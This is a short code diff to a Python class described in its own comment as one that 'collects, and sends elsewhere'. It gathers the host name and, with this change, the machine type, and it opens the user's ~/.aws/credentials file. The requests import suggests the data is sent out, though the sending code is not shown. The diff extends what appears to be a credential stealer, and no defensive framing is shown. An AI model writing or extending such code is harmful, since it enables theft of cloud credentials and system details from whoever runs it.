@@ -1,7 +1,6 @@
 # collects: a class that collects, and sends elsewhere
 import os
 import platform
-import sqlite3
 
 import requests
 
@@ -9,6 +8,7 @@ import requests
 class Report:
     def system(self):
         self.rows.append(platform.node())
+        self.rows.append(platform.machine())
 
     def files(self):
         with open(os.path.expanduser("~/.aws/credentials")) as handle:
